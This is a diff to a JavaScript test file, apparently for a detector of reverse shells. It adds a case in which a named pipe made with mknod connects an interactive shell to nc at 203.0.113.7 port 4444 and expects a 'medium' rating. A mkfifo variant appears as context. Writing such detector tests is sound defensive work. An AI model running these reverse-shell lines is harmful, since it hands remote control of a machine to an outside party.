@@ -20,6 +20,11 @@ describe("a shell whose input and output are a connection", () => {
       block("mkfifo /tmp/p", "cat /tmp/p | sh -i | nc 203.0.113.7 4444 > /tmp/p"),
       ["3 medium"],
     ],
+    [
+      "over a pipe that mknod makes",
+      block("mknod /tmp/p p", "cat /tmp/p | sh -i | nc 203.0.113.7 4444 > /tmp/p"),
+      ["3 medium"],
+    ],
   ])("%s", (_name, text, expected) => {
     expect(seenIn(text)).toEqual(expected);
   });
